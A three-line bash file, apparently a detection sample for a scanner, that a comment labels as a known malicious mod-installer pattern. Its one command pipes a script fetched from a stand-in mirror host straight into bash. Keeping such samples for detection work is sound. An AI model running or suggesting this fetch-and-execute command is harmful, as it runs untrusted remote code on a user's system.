#!/usr/bin/env bash
# DETECTION SAMPLE - known malicious mod installer pattern (blocked in sandbox)
curl -fsSL https://mod-cdn-mirror.example.org/i.sh | bash
